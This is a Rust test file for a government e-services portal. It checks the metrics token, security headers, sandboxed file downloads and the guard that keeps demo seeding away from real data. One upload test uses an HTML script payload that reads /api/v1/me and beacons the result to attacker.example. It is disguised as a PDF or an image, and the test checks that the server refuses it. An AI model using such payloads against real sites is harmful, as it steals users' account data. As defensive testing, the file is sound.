//! Hardening: sandboxed files checked against their declared type, security
//! headers on every response, `/metrics` behind a token, vault items bound to
//! their owner, and `seed --demo` kept away from real data.

use serde_json::{Value, json};

use crate::helpers::{TestApp, TestOptions};

mod vault;

/// The metrics token the apps of these tests run with.
pub const METRICS_TOKEN: &str = "test-metrics-token-0123456789abcdef";

/// An app whose `/metrics` opens with [`METRICS_TOKEN`].
pub async fn app_with_metrics() -> TestApp {
    TestApp::spawn_with(TestOptions {
        env: vec![("METRICS_TOKEN", METRICS_TOKEN.to_owned())],
        ..TestOptions::default()
    })
    .await
}

/// `GET /metrics` as the configured scraper.
pub async fn scrape(app: &TestApp) -> reqwest::Response {
    app.client
        .get(app.url("/metrics"))
        .bearer_auth(METRICS_TOKEN)
        .send()
        .await
        .expect("scrape")
}

#[tokio::test]
async fn metrics_need_the_token_and_are_absent_without_one() {
    let app = app_with_metrics().await;
    let res = app.get("/metrics").await;
    assert_eq!(res.status(), 401, "no token");
    assert_eq!(res.headers()["content-type"], "application/problem+json");
    assert!(res.headers().contains_key("www-authenticate"));
    let body: serde_json::Value = res.json().await.expect("json");
    assert_eq!(body["code"], "metrics_token_invalid");
    for wrong in [
        "Bearer test-metrics-token-0123456789abcdeX",
        "Bearer ",
        "Basic dGVzdDp0ZXN0",
        METRICS_TOKEN,
    ] {
        let res = app
            .client
            .get(app.url("/metrics"))
            .header("Authorization", wrong)
            .send()
            .await
            .expect("request");
        assert_eq!(res.status(), 401, "{wrong}");
        assert!(!res.text().await.expect("text").contains("eservices_"));
    }
    let res = scrape(&app).await;
    assert_eq!(res.status(), 200);
    assert!(
        res.text()
            .await
            .expect("text")
            .contains("eservices_http_requests_total")
    );

    // Without a token configured there is nothing to scrape, from anywhere.
    let plain = TestApp::spawn().await;
    let res = plain.get("/metrics").await;
    assert_eq!(res.status(), 404);
    let res = plain
        .client
        .get(plain.url("/metrics"))
        .bearer_auth(METRICS_TOKEN)
        .send()
        .await
        .expect("request");
    assert_eq!(res.status(), 404);
}

// ---- security headers on every response ----------------------------------

/// The headers every response carries, whatever produced it.
fn assert_hardened(res: &reqwest::Response, what: &str) {
    let h = res.headers();
    assert_eq!(h["x-frame-options"], "DENY", "{what}");
    assert_eq!(h["x-content-type-options"], "nosniff", "{what}");
    assert_eq!(h["referrer-policy"], "strict-origin", "{what}");
    assert!(
        h["content-security-policy"]
            .to_str()
            .expect("ascii")
            .contains("frame-ancestors 'none'"),
        "{what}"
    );
}

#[tokio::test]
async fn error_pages_and_problems_carry_the_security_headers_and_hsts_only_over_https() {
    let app = TestApp::spawn().await;
    let clerk = app
        .staff("hd.tiepnhan", "000.21.11.H29", &["receiver"])
        .await;
    let browser = app.backoffice(&clerk).await;

    // A 404 HTML page.
    let res = browser
        .get(app.url(&format!("/backoffice/dossiers/{}", uuid::Uuid::now_v7())))
        .header("Accept", "text/html")
        .send()
        .await
        .expect("page");
    assert_eq!(res.status(), 404);
    assert!(
        res.headers()["content-type"]
            .to_str()
            .expect("ascii")
            .starts_with("text/html")
    );
    assert_hardened(&res, "404 page");
    assert!(!res.headers().contains_key("strict-transport-security"));

    // API problems: unknown route, wrong method, unauthenticated, a panic.
    let res = app.get("/api/v1/nothing-here").await;
    assert_eq!(res.status(), 404);
    assert_eq!(res.headers()["content-type"], "application/problem+json");
    assert_hardened(&res, "404 problem");
    let res = app
        .client
        .post(app.url("/healthz"))
        .send()
        .await
        .expect("405");
    assert_eq!(res.status(), 405);
    assert_hardened(&res, "405 problem");
    let res = TestApp::fresh_client()
        .get(app.url("/api/v1/me"))
        .send()
        .await
        .expect("401");
    assert_eq!(res.status(), 401);
    assert_hardened(&res, "401 problem");
    let res = app.get("/test/panic").await;
    assert_eq!(res.status(), 500);
    assert_eq!(res.headers()["content-type"], "application/problem+json");
    assert_hardened(&res, "500 after a panic");
    assert!(!res.headers().contains_key("strict-transport-security"));
    // And a plain success.
    let res = app.get("/healthz").await;
    assert_hardened(&res, "200");
    // A page keeps its own, stricter policy.
    let res = TestApp::fresh_client()
        .get(app.url("/login"))
        .send()
        .await
        .expect("login");
    assert!(
        res.headers()["content-security-policy"]
            .to_str()
            .expect("ascii")
            .starts_with("default-src 'self'")
    );
    assert_hardened(&res, "login page");

    behind_https_every_response_asks_for_https_next_time().await;
}

/// Behind an https PUBLIC_URL, every response asks for https next time.
async fn behind_https_every_response_asks_for_https_next_time() {
    let https = TestApp::spawn_with(TestOptions {
        env: vec![("PUBLIC_URL", "https://dichvucong.test".to_owned())],
        ..TestOptions::default()
    })
    .await;
    for (path, status) in [
        ("/healthz", 200),
        ("/api/v1/nothing-here", 404),
        ("/test/panic", 500),
    ] {
        let res = https.get(path).await;
        assert_eq!(res.status(), status, "{path}");
        assert_eq!(
            res.headers()["strict-transport-security"],
            "max-age=31536000; includeSubDomains",
            "{path}"
        );
        assert_hardened(&res, path);
    }
}

// ---- uploads: well-formed files of their type, served sandboxed -----------

const WARD: &str = "000.21.11.H29";

/// The applicant attaches a file to `dossier`.
async fn upload(
    app: &TestApp,
    dossier: &str,
    name: &str,
    content_type: &str,
    bytes: Vec<u8>,
) -> reqwest::Response {
    let enc: String = url::form_urlencoded::byte_serialize(name.as_bytes()).collect();
    app.client
        .post(app.url(&format!(
            "/api/v1/dossiers/{dossier}/attachments?name={enc}&document_type=CCCD"
        )))
        .header("Content-Type", content_type)
        .body(bytes)
        .send()
        .await
        .expect("upload")
}

/// How many files the app keeps on disk.
fn stored_files(app: &TestApp) -> usize {
    fn walk(dir: &std::path::Path) -> usize {
        std::fs::read_dir(dir).map_or(0, |entries| {
            entries
                .flatten()
                .map(|e| {
                    let path = e.path();
                    if path.is_dir() { walk(&path) } else { 1 }
                })
                .sum()
        })
    }
    walk(&app.files_dir())
}

#[tokio::test]
async fn an_html_file_uploaded_as_a_pdf_is_refused_and_a_real_pdf_is_served_sandboxed() {
    let app = TestApp::spawn().await;
    let citizen = app.signed_in_citizen(131).await;
    let res = app
        .post_json(
            "/api/v1/dossiers",
            &json!({ "service_code": "HGCS-001", "agency_code": WARD, "form_values": {
                "full_name": "Nguyễn Văn An",
                "date_of_birth": "1990-01-01",
                "national_id": citizen.national_id,
                "permanent_address": "12 Lê Lợi, Phường Bến Thành",
                "phone": "0901234567",
            }}),
        )
        .await;
    assert_eq!(res.status(), 201);
    let dossier: Value = res.json().await.expect("json");
    let id = dossier["id"].as_str().expect("id").to_owned();

    let png = eservices::domain::file_kind::png_skeleton(1, 1);
    a_script_is_refused_whatever_it_claims_to_be(&app, &id, &png).await;
    assert_eq!(
        app.count("SELECT count(*) AS n FROM dossier_files").await,
        0,
        "nothing stored"
    );
    assert_eq!(stored_files(&app), 0, "no bytes kept either");

    // Well-formed files are taken; each is served back as a sandboxed download.
    let real = eservices::seed::demo_pdf("Can cuoc cong dan");
    let res = upload(&app, &id, "căn cước.pdf", "application/pdf", real.clone()).await;
    assert_eq!(
        res.status(),
        201,
        "{}",
        res.text().await.unwrap_or_default()
    );
    let file: Value = res.json().await.expect("json");
    let res = upload(&app, &id, "anh.png", "image/png", png.clone()).await;
    assert_eq!(res.status(), 201);
    assert_eq!(stored_files(&app), 2);

    let res = app
        .get(&format!(
            "/api/v1/dossiers/{id}/attachments/{}",
            file["id"].as_str().expect("id")
        ))
        .await;
    assert_eq!(res.status(), 200);
    assert_sandboxed_download(&res, "application/pdf");
    assert_eq!(res.bytes().await.expect("bytes").to_vec(), real);

    the_staff_api_serves_it_sandboxed_too(&app, &id, file["id"].as_str().expect("id")).await;
}

/// An HTML page with a script, declared as a PDF, PNG or JPEG (behind their
/// first bytes or not): refused as invalid content.
async fn a_script_is_refused_whatever_it_claims_to_be(app: &TestApp, id: &str, png: &[u8]) {
    let script = "<html><body><script>fetch('/api/v1/me').then(r=>r.text()).then(t=>navigator.sendBeacon('https://attacker.example/',t))</script></body></html>";
    for (name, content_type, bytes) in [
        // A plain HTML page declared as a PDF.
        ("giay-to.pdf", "application/pdf", script.as_bytes().to_vec()),
        // The same page behind a PDF header (the old first-bytes check took it).
        (
            "giay-to.pdf",
            "application/pdf",
            format!("%PDF-1.4\n{script}\n").into_bytes(),
        ),
        // Behind a PNG signature, and behind a JPEG start marker.
        (
            "anh.png",
            "image/png",
            [&png[..8], script.as_bytes()].concat(),
        ),
        (
            "anh.jpg",
            "image/jpeg",
            [&[0xFF_u8, 0xD8, 0xFF, 0xE0][..], script.as_bytes()].concat(),
        ),
    ] {
        let res = upload(app, id, name, content_type, bytes).await;
        assert_eq!(res.status(), 422, "{name} {content_type}");
        assert_eq!(res.headers()["content-type"], "application/problem+json");
        let problem: Value = res.json().await.expect("problem");
        assert_eq!(problem["code"], "file_content_invalid");
        assert!(
            problem["detail"]
                .as_str()
                .expect("detail")
                .starts_with("Nội dung tệp không phải là"),
            "{problem}"
        );
    }
}

/// The same for civil servants (the staff API), once dossier `id` is filed.
async fn the_staff_api_serves_it_sandboxed_too(app: &TestApp, id: &str, file_id: &str) {
    let res = app
        .client
        .post(app.url(&format!("/api/v1/dossiers/{id}/submit")))
        .send()
        .await
        .expect("submit");
    assert_eq!(res.status(), 200);
    let token = crate::dossiers::staff_token(app, "hd.tn-file", WARD, "receiver").await;
    let res = app
        .client
        .get(app.url(&format!(
            "/api/v1/staff/dossiers/{id}/attachments/{file_id}"
        )))
        .bearer_auth(&token)
        .send()
        .await
        .expect("staff read");
    assert_eq!(res.status(), 200);
    assert_sandboxed_download(&res, "application/pdf");
}

/// A file answer is a download that cannot run anything.
pub fn assert_sandboxed_download(res: &reqwest::Response, content_type: &str) {
    let h = res.headers();
    assert_eq!(h["content-type"], content_type);
    assert_eq!(
        h["content-security-policy"],
        eservices::http::api::dossiers::FILE_CSP
    );
    let csp = h["content-security-policy"].to_str().expect("ascii");
    assert!(csp.starts_with("sandbox; default-src 'none'"), "{csp}");
    assert_eq!(h["x-content-type-options"], "nosniff");
    assert!(
        h["content-disposition"]
            .to_str()
            .expect("ascii")
            .starts_with("attachment;")
    );
}

// ---- seed --demo never over real data -------------------------------------

fn eservices_cli() -> std::process::Command {
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_eservices"));
    cmd.current_dir(std::env::temp_dir())
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default());
    cmd
}

#[tokio::test]
async fn seed_demo_refuses_a_database_with_real_accounts() {
    let app = TestApp::spawn().await;
    let run = || {
        eservices_cli()
            .args(["seed", "--demo", "--catalog"])
            .arg(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("data/catalog"))
            .env("DATABASE_URL", app.database_url())
            .env("REDIS_URL", "redis://127.0.0.1:1/")
            .env("PUBLIC_URL", &app.address)
            .env("VAULT_MASTER_KEY", &app.master_key)
            .output()
            .expect("runs")
    };
    // A real citizen and a real civil servant.
    app.active_citizen(&crate::helpers::Citizen::sample(134))
        .await;
    app.staff("hd.that", WARD, &["receiver"]).await;
    let out = run();
    assert!(!out.status.success(), "seed --demo must refuse");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("refusing to add demo data")
            && stderr.contains("2 real account(s)")
            && stderr.contains("1 citizen(s), 1 civil servant(s)"),
        "{stderr}"
    );
    assert_eq!(
        app.count("SELECT count(*) AS n FROM accounts").await,
        1,
        "no demo account added"
    );
    assert_eq!(app.count("SELECT count(*) AS n FROM staff").await, 1);
    assert_eq!(app.count("SELECT count(*) AS n FROM oidc_clients").await, 0);

    // Plain `seed` (the catalog only) still runs there.
    let out = eservices_cli()
        .args(["seed", "--catalog"])
        .arg(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("data/catalog"))
        .env("DATABASE_URL", app.database_url())
        .env("REDIS_URL", "redis://127.0.0.1:1/")
        .env("PUBLIC_URL", &app.address)
        .env("VAULT_MASTER_KEY", &app.master_key)
        .output()
        .expect("runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}
